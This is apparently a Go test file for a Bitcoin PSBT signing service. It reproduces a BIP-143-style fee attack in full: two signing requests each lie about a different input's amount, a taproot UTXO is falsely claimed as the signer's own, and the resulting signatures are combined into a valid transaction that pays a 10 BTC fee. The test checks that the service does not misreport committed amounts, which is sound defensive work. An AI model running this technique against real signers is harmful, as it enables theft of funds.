package btc_test

import (
	"testing"

	"github.com/btcsuite/btcd/btcec/v2"
	"github.com/btcsuite/btcd/txscript"
	"github.com/btcsuite/btcd/wire"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestTaprootClaimFeeAttack: amounts_committed is set because a
// "signed P2TR input" commits to every amount (BIP-341). But whether that
// input is this key's is only the caller's witness_utxo claim. An attacker
// labels one of its own taproot UTXOs as the key's P2TR output and runs the
// BIP-143 fee attack in two requests, each lying about a different P2WPKH
// input of the key. Both summaries say amounts, outputs and inputs are
// committed and show a 101,000 sat fee; the P2WPKH signatures (valid, they
// commit only to their own amounts), plus the attacker's own signature for
// its UTXO, make a valid transaction that pays a 10 BTC fee.
func TestTaprootClaimFeeAttack(t *testing.T) {
	victim := newTestKey(t, "key a")
	attacker := newTestKey(t, "attacker")
	dest := newTestKey(t, "key b")
	const (
		realA, realB, realX = int64(1_000_000_000), int64(1_000_000_000), int64(1_000)
		lie                 = int64(100_000)
		paid                = int64(1_000_000_000)
	)
	outs := []*wire.TxOut{wire.NewTxOut(paid, dest.p2wpkh)}

	// Request 1 lies about B, request 2 about A; both claim the attacker's
	// UTXO X is the victim's BIP-86 output.
	r1pkt, _ := buildPSBT(t, []spend{{script: victim.p2wpkh, amount: realA}, {script: victim.p2wpkh, amount: lie}, {script: victim.p2tr, amount: realX}}, outs)
	r2pkt, _ := buildPSBT(t, []spend{{script: victim.p2wpkh, amount: lie}, {script: victim.p2wpkh, amount: realB}, {script: victim.p2tr, amount: realX}}, outs)
	require.Equal(t, r1pkt.UnsignedTx.TxHash(), r2pkt.UnsignedTx.TxHash(), "same transaction")
	r1, err := signPSBT(victim, serialize(t, r1pkt), mainnet)
	require.NoError(t, err)
	r2, err := signPSBT(victim, serialize(t, r2pkt), mainnet)
	require.NoError(t, err)

	// The real transaction: A and B are the victim's, X the attacker's.
	tx := r1pkt.UnsignedTx.Copy()
	real := []*wire.TxOut{wire.NewTxOut(realA, victim.p2wpkh), wire.NewTxOut(realB, victim.p2wpkh), wire.NewTxOut(realX, attacker.p2tr)}
	fetch := txscript.NewMultiPrevOutFetcher(nil)
	for i, in := range tx.TxIn {
		fetch.AddPrevOut(in.PreviousOutPoint, real[i])
	}
	hashes := txscript.NewTxSigHashes(tx, fetch)
	tx.TxIn[0].Witness = wire.TxWitness{parse(t, r1.GetSignedPayload()).Inputs[0].PartialSigs[0].Signature, victim.compressed}
	tx.TxIn[1].Witness = wire.TxWitness{parse(t, r2.GetSignedPayload()).Inputs[1].PartialSigs[0].Signature, victim.compressed}
	xKey, _ := btcec.PrivKeyFromBytes(attacker.priv)
	tx.TxIn[2].Witness, err = txscript.TaprootWitnessSignature(tx, hashes, 2, realX, attacker.p2tr, txscript.SigHashDefault, xKey)
	require.NoError(t, err)
	for i := range tx.TxIn {
		vm, err := txscript.NewEngine(real[i].PkScript, tx, i, txscript.StandardVerifyFlags, nil, hashes, real[i].Value, fetch)
		require.NoError(t, err)
		require.NoError(t, vm.Execute(), "input %d of the combined transaction must be valid", i)
	}
	realFee := realA + realB + realX - paid

	for name, s := range map[string]struct {
		fee                      uint64
		amounts, outputs, inputs bool
	}{
		"request 1": {r1.GetSummary().GetBitcoin().GetFee(), r1.GetSummary().GetBitcoin().GetAmountsCommitted(), r1.GetSummary().GetBitcoin().GetOutputsCommitted(), r1.GetSummary().GetBitcoin().GetInputsCommitted()},
		"request 2": {r2.GetSummary().GetBitcoin().GetFee(), r2.GetSummary().GetBitcoin().GetAmountsCommitted(), r2.GetSummary().GetBitcoin().GetOutputsCommitted(), r2.GetSummary().GetBitcoin().GetInputsCommitted()},
	} {
		require.True(t, s.outputs && s.inputs, name)
		if s.amounts {
			assert.Equal(t, realFee, int64(s.fee),
				"%s: amounts_committed=true but its signatures are valid in a transaction whose fee is %d sat, not the %d sat it reports", name, realFee, s.fee)
		}
	}
}
